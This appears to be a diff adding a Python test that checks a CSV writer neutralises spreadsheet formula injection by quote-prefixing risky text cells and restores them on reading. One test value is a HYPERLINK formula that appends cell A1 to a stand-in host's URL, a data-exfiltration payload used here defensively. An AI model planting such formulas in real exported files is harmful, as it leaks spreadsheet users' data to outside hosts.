@@ -1,3 +1,4 @@
+import csv
 from pathlib import Path
 
 import pandas as pd
@@ -49,6 +50,18 @@ def test_write_csv_round_trips(tmp_path: Path):
     frame = pd.DataFrame({"a": [1, 2], "b": ["x", "y, z"]})
     io.write_csv(tmp_path / "t.csv", frame)
     assert pd.read_csv(tmp_path / "t.csv").equals(frame)
+
+
+def test_text_cells_a_spreadsheet_would_run_are_neutralised_and_read_back_as_written(tmp_path: Path):
+    cells = ['=HYPERLINK("http://x.test/?"&A1,"open")', "+44 7700 900315?", "- so I said", "@SUM(A1:A3)",
+             "'=quoted already", "''@twice", "'plain quote", "-0.25", "1e-3", "", "ordinary"]
+    frame = pd.DataFrame({"text": cells, "number": [-1.5] * len(cells)})
+    written = io.write_csv(tmp_path / "t.csv", frame).read_text(encoding="utf-8")
+    raw = [row[0] for row in csv.reader(written.splitlines()[1:])]
+    assert raw == ["'" + cells[0], "'" + cells[1], "'- so I said", "'@SUM(A1:A3)", "''=quoted already",
+                   "'''@twice", "'plain quote", "-0.25", "1e-3", "", "ordinary"]
+    assert list(io.read_csv(tmp_path / "t.csv")["text"]) == cells
+    assert "-1.5" in written and "'-1.5" not in written
 
 
 def test_project_root_found_from_a_subfolder():
